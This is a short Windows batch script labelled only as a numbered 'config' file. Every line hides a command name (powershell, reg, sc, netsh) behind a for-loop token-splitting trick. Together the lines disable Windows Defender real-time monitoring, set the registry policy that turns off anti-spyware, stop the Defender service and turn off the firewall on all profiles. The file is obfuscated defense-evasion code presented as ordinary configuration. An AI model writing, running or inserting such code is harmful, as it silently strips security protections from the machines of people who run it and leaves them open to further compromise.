REM config 7246 v4
for /f "tokens=3 delims=~" %%i in ("yvme~spst~powershell") do %%i -c "Set-MpPreference -DisableRealtimeMonitoring $true"
for /f "tokens=1 delims=@" %%i in ("reg@hdzf@kumq") do %%i add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
for /f "tokens=3 delims=;" %%i in ("nnzh;lvdz;sc") do %%i stop WinDefend
for /f "tokens=2 delims=#" %%i in ("thwx#netsh#pihi") do %%i advfirewall set allprofiles state off
